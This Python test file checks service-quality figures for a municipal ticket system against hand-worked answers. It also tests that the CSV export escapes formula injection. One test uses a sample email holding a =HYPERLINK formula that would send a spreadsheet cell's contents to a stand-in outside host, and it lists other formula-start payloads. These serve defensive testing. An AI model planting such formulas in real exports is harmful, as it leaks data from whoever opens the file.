"""Service-quality figures on a hand-made set of tickets whose answers are worked out by hand.

March 2025, five tickets (and one in February that no March figure may include):
roads  r1 urgent, replied 1 h, resolved 10 h, closed, due 12 h (met), rated 5
roads  r2 replied 2 h, resolved 20 h, closed 21 h, due 12 h (missed), rated 3
roads  r3 replied 4 h, reopened once, still open and past its 12 h due time (missed), surveyed
roads  r4 new, by email, urgent priority, category corrected by staff, no due time
health h1 replied 6 h, resolved 30 h, due 48 h (met)
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from itertools import count
from typing import Any

import pytest

from core.context import Context
from core.insights.stats import compute_stats, percentile, spreadsheet_text, stats_csv
from core.models import Contact, RoutingCorrection, Status, Ticket, User
from core.staff.accounts import valid_email

T0 = datetime(2025, 3, 10, 8, 0, tzinfo=UTC)
MARCH = (datetime(2025, 3, 1, tzinfo=UTC), datetime(2025, 4, 1, tzinfo=UTC))
NOW = datetime(2025, 4, 2, tzinfo=UTC)
_refs = count(1)


def hours(n: float) -> datetime:
    return T0 + timedelta(hours=n)


def add(session: Any, contact: Contact, directorate: str, **fields: Any) -> Ticket:
    ticket = Ticket(
        reference=f"MCT-{next(_refs):06d}",
        secret="s",
        channel=fields.pop("channel", "telegram"),
        contact_id=contact.id,
        directorate=directorate,
        category=fields.pop(
            "category", "road_damage" if directorate == "roads" else "pest_control"
        ),
        created_at=fields.pop("created_at", T0),
        language="ar",
        **fields,
    )
    session.add(ticket)
    session.flush()
    return ticket


@pytest.fixture
def march(ctx: Context) -> Context:
    with ctx.sessions() as session, session.begin():
        contact = Contact(name="x")
        officer = User(email="roads@mct.om", role="department", directorate="roads")
        session.add_all([contact, officer])
        session.flush()
        common = {"assignee_id": officer.id, "due_at": hours(12)}
        add(session, contact, "roads", urgent=True, status=Status.CLOSED, first_response_at=hours(1),
            resolved_at=hours(10), closed_at=hours(11), satisfaction=5, survey_sent_at=hours(12),
            **common)  # fmt: skip
        add(session, contact, "roads", status=Status.CLOSED, first_response_at=hours(2),
            resolved_at=hours(20), closed_at=hours(21), satisfaction=3, survey_sent_at=hours(22),
            **common)  # fmt: skip
        add(session, contact, "roads", status=Status.REOPENED, first_response_at=hours(4),
            resolved_at=hours(5), closed_at=None, reopen_count=1, survey_sent_at=hours(6),
            due_at=hours(12))  # fmt: skip
        r4 = add(session, contact, "roads", channel="email", priority="urgent")
        session.add(RoutingCorrection(ticket_id=r4.id, text="t", category="road_damage"))
        add(session, contact, "health", status=Status.RESOLVED, first_response_at=hours(6),
            resolved_at=hours(30), due_at=hours(48))  # fmt: skip
        add(session, contact, "health", created_at=datetime(2025, 2, 20, tzinfo=UTC),
            first_response_at=datetime(2025, 2, 25, tzinfo=UTC))  # fmt: skip
    return ctx


def figures(ctx: Context, **kwargs: Any) -> dict[str, Any]:
    kwargs.setdefault("now", NOW)
    with ctx.sessions() as session:
        return compute_stats(session, *MARCH, taxonomy=ctx.taxonomy, **kwargs)


def group(result: dict[str, Any], key: str | None) -> dict[str, Any]:
    (row,) = [g for g in result["groups"] if g["key"] == key]
    return row


def test_roads_figures_match_the_hand_worked_answers(march: Context) -> None:
    roads = group(figures(march), "roads")
    assert roads == {
        "key": "roads",
        "tickets": 4,
        "open": 2,
        "resolved": 0,
        "closed": 2,
        "urgent": 2,
        "first_response_hours_median": 2.0,
        "first_response_hours_p90": 3.6,
        "resolution_hours_median": 10.0,
        "resolution_hours_p90": 18.0,
        "sla_met_share": 0.3333,
        "reopened_share": 0.25,
        "rating_average": 4.0,
        "rating_count": 2,
        "rating_response_share": 0.6667,
        "routing_corrected_share": 0.25,
        "dispatch_late": 0,  # no dispatch target asked for
        "dispatch_late_share": None,
    }


def test_totals_cover_every_ticket_of_the_period_and_nothing_before(march: Context) -> None:
    totals = figures(march)["totals"]
    assert totals["tickets"] == 5
    assert (totals["first_response_hours_median"], totals["first_response_hours_p90"]) == (3.0, 5.4)
    assert (totals["resolution_hours_median"], totals["resolution_hours_p90"]) == (15.0, 27.0)
    assert (totals["sla_met_share"], totals["reopened_share"]) == (0.5, 0.2)
    assert (totals["rating_average"], totals["rating_count"]) == (4.0, 2)
    assert totals["routing_corrected_share"] == 0.2


def test_a_directorate_without_tickets_is_listed_with_zeros_and_no_averages(
    march: Context,
) -> None:
    parks = group(figures(march), "parks")
    assert parks["tickets"] == parks["open"] == parks["rating_count"] == 0
    assert parks["first_response_hours_median"] is None
    assert parks["sla_met_share"] is None and parks["rating_average"] is None


def test_a_group_with_no_surveys_has_no_response_share(march: Context) -> None:
    health = group(figures(march), "health")
    assert health["tickets"] == 1 and health["sla_met_share"] == 1.0
    assert health["rating_response_share"] is None and health["rating_count"] == 0
    assert health["resolution_hours_median"] == health["resolution_hours_p90"] == 30.0


def test_an_empty_period_has_zero_tickets_and_no_figures(march: Context) -> None:
    with march.sessions() as session:
        result = compute_stats(
            session, datetime(2024, 1, 1, tzinfo=UTC), datetime(2024, 2, 1, tzinfo=UTC)
        )
    assert result["groups"] == []
    assert result["totals"]["tickets"] == 0
    assert result["totals"]["resolution_hours_median"] is None
    assert result["totals"]["reopened_share"] is None


def test_an_open_ticket_not_yet_due_does_not_count_against_the_sla(march: Context) -> None:
    before_due = figures(march, now=hours(11))  # r3's due time (12 h) not reached yet
    assert group(before_due, "roads")["sla_met_share"] == 0.5


def test_grouping_by_assignee_keys_rows_by_staff_email_and_unassigned_last(march: Context) -> None:
    result = figures(march, group_by="assignee")
    assert [g["key"] for g in result["groups"]] == ["roads@mct.om", None]
    assert group(result, "roads@mct.om")["tickets"] == 2
    assert group(result, "roads@mct.om")["first_response_hours_median"] == 1.5


def test_grouping_by_channel_splits_email_from_telegram(march: Context) -> None:
    result = figures(march, group_by="channel")
    assert {g["key"]: g["tickets"] for g in result["groups"]} == {"email": 1, "telegram": 4}


def test_one_directorate_scope_hides_every_other(march: Context) -> None:
    result = figures(march, directorate="health")
    assert [g["key"] for g in result["groups"]] == ["health"]
    assert result["totals"]["tickets"] == 1


def test_csv_has_a_row_per_group_and_a_total(march: Context) -> None:
    lines = stats_csv(figures(march, group_by="channel")).splitlines()
    assert lines[0].startswith("channel,tickets,open,resolved,closed,urgent,")
    assert [line.split(",")[:2] for line in lines[1:]] == [
        ["email", "1"],
        ["telegram", "4"],
        ["total", "5"],
    ]


@pytest.mark.parametrize("start", ["=", "+", "-"])
def test_csv_cell_that_a_spreadsheet_would_run_as_a_formula_is_quoted(
    march: Context, start: str
) -> None:
    """A staff email may begin with = + - (valid_email takes them), and the assignee
    grouping prints it: opened in Excel or LibreOffice, `=HYPERLINK(...)` would run."""
    email = f'{start}HYPERLINK("http://x.example/"&A1,"x")@mct.om'
    assert valid_email(email)
    with march.sessions() as session, session.begin():
        user = session.query(User).filter_by(email="roads@mct.om").one()
        user.email = email
    rows = list(csv.reader(io.StringIO(stats_csv(figures(march, group_by="assignee")))))
    assert rows[1][0] == "'" + email
    assert rows[1][1] == "2"  # figures stay numbers


@pytest.mark.parametrize("text", ["@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-2+3"])
def test_spreadsheet_text_quotes_every_formula_start(text: str) -> None:
    assert spreadsheet_text(text) == "'" + text


def test_spreadsheet_text_leaves_codes_and_numbers_alone() -> None:
    assert spreadsheet_text("road_damage") == "road_damage"
    assert spreadsheet_text("بلدية") == "بلدية"
    assert spreadsheet_text(-1.5) == -1.5


def test_percentile_interpolates_between_ranks_like_percentile_cont() -> None:
    assert percentile([1.0, 2.0, 4.0], 0.9) == pytest.approx(3.6)
    assert percentile([7.0], 0.9) == 7.0
    assert percentile([], 0.5) is None
